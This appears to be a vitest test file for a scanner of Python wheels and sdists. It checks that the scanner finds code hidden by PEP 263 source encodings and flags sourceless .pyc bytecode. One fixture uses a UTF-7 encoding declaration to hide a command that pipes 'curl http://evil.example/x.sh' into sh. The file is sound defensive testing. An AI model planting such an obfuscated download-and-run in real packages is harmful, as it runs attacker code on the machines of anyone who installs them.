import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanPythonDistribution, type ScanReport } from '../../helper/src/scan/index.js';
import { sourceEncoding } from '../../helper/src/scan/python/encoding.js';
import { tempDir } from './support.js';
import { makeSdist, makeWheel } from './python-support.js';

let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir();
});
afterAll(() => work.cleanup());

const rules = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}`);
const UTF7 = '# -*- coding: utf-7 -*-\n# harmless comment +AAo-import os+ADs-os.system(+ACI-curl http://evil.example/x.sh | sh+ACI-)\n';

describe('scan: code hidden by a PEP 263 source encoding', () => {
  it('decodes a UTF-7 __init__.py as CPython does and finds the download-and-run it hides', async () => {
    const r = await scanPythonDistribution(await makeWheel(work.dir, 'u', { 'u/__init__.py': UTF7 }), 'wheel');
    expect(rules(r)).toContain('high code-source-encoding u/__init__.py');
    expect(r.findings.some((f) => f.rule === 'code-download-exec' && f.file === 'u/__init__.py' && f.severity === 'high')).toBe(true);
  });

  it('finds the declaration on line 2 after a comment, and not after a line of code', () => {
    expect(sourceEncoding('#!/usr/bin/env python\n# vim: set fileencoding=utf-7 :\n')).toMatchObject({ kind: 'incompatible', declared: 'utf-7', line: 2 });
    expect(sourceEncoding('import os\n# coding: utf-7\n')).toEqual({ kind: 'utf-8' });
    expect(sourceEncoding('\xef\xbb\xbf# coding: utf-7\n')).toEqual({ kind: 'utf-8' });
    expect(sourceEncoding('# -*- coding: latin-1 -*-\nx = "\xe9"\n')).toMatchObject({ kind: 'compatible' });
    expect(sourceEncoding('# coding=U7\n')).toMatchObject({ kind: 'incompatible' });
    expect(sourceEncoding('# coding: utf_8\n')).toEqual({ kind: 'utf-8' });
    expect(sourceEncoding(`#${' '.repeat(10_000)}coding: utf-7\r\nx = 1\r\n`)).toMatchObject({ kind: 'incompatible', line: 1 });
    // No final newline: CPython adds one to exec input, so the declaration still counts.
    expect(sourceEncoding('# x\n# coding: utf-7 +AAo-import os')).toMatchObject({ kind: 'incompatible', line: 2, text: '# x\n# coding: utf-7 \nimport os' });
  });

  it('keeps a Latin-1 declaration quiet and analyses its code', async () => {
    const r = await scanPythonDistribution(await makeWheel(work.dir, 'l', { 'l/__init__.py': '# -*- coding: iso-8859-1 -*-\nNAME = "caf\xe9"\n' }), 'wheel');
    expect(r.findings).toEqual([]);
  });

  it('reports an encoding it cannot decode (unicode_escape) in setup.py and calls the scan incomplete', async () => {
    const r = await scanPythonDistribution(await makeSdist(work.dir, 'ue', { 'setup.py': '# coding: unicode_escape\n# \\x0aimport os\n' }), 'sdist');
    expect(r.complete).toBe(false);
    expect(rules(r)).toContain('high code-source-encoding setup.py');
    expect(rules(r)).toContain('high scan-incomplete (package)');
  });
});

describe('scan: compiled bytecode', () => {
  const pyc = Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]), Buffer.alloc(12), Buffer.from([0xe3, 0, 0, 0])]);

  it('reports a sourceless package a .pth imports at every start', async () => {
    const r = await scanPythonDistribution(await makeWheel(work.dir, 'pyc', { 'pyc/__init__.pyc': pyc, 'pyc.pth': 'import pyc\n' }), 'wheel');
    expect(rules(r)).toContain('critical python-bytecode pyc/__init__.pyc');
  });

  it('reports a sourceless top-level module at import as high, a pyc beside its source as low', async () => {
    const r = await scanPythonDistribution(await makeWheel(work.dir, 'mod', { 'mod.pyc': pyc, 'other/__init__.py': '', 'other/__init__.pyc': pyc }), 'wheel');
    expect(rules(r)).toEqual(['high python-bytecode mod.pyc', 'low python-bytecode other/__init__.pyc']);
  });

  it('reports __pycache__ bytecode shipped for a module that runs on import', async () => {
    const r = await scanPythonDistribution(await makeWheel(work.dir, 'cache', { 'cache/__init__.py': '', 'cache/__pycache__/__init__.cpython-311.pyc': pyc }), 'wheel');
    expect(rules(r)).toEqual(['medium python-bytecode cache/__pycache__/__init__.cpython-311.pyc']);
  });

  it('reports a sourceless module setup.py imports at install', async () => {
    const r = await scanPythonDistribution(await makeSdist(work.dir, 'sb', { 'setup.py': 'import helper\nfrom setuptools import setup\nsetup()\n', 'helper.pyc': pyc }), 'sdist');
    expect(rules(r)).toContain('critical python-bytecode helper.pyc');
  });
});
